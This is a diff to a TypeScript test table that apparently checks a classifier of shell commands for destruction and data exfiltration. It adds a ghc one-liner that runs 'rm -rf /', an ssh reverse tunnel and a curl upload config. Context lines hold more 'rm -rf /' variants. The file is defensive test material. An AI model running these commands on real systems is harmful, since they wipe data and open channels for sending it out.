@@ -89,6 +89,11 @@ const LIMITS: readonly Limit[] = [
   destructive('Tools that nobody has described', 'frobnicate --destroy-all --yes', 0),
   destructive('Tools that nobody has described', 'tarsnap --nuke', 0),
   destructive('Tools that nobody has described', 'mywrapper rm -rf /', 0),
+  destructive(
+    'Tools that nobody has described',
+    'ghc -e \'System.Process.callCommand "rm -rf /"\'',
+    0,
+  ),
   destructive('Conditions', 'if [ 1 -eq 2 ]; then rm -rf /; fi', 1),
   destructive('Conditions', '[ -e never ] && rm -rf /', 1),
   destructive('Corners of the shell', 'rm -rf @(/etc|/usr)', 0),
@@ -133,6 +138,19 @@ const LIMITS: readonly Limit[] = [
     question: 'shell_exfiltrates',
     input: 'psql -h db.example -f migrations/002.sql',
     today: 0,
+  },
+  {
+    heading: 'What is sent and how much it matters',
+    question: 'shell_exfiltrates',
+    input: 'ssh -R 8080:localhost:80 host.example',
+    today: 0,
+  },
+  {
+    heading: 'What is sent and how much it matters',
+    question: 'shell_exfiltrates',
+    input: 'curl -K upload.conf',
+    today: 0,
+    strict: 1,
   },
 ];
 
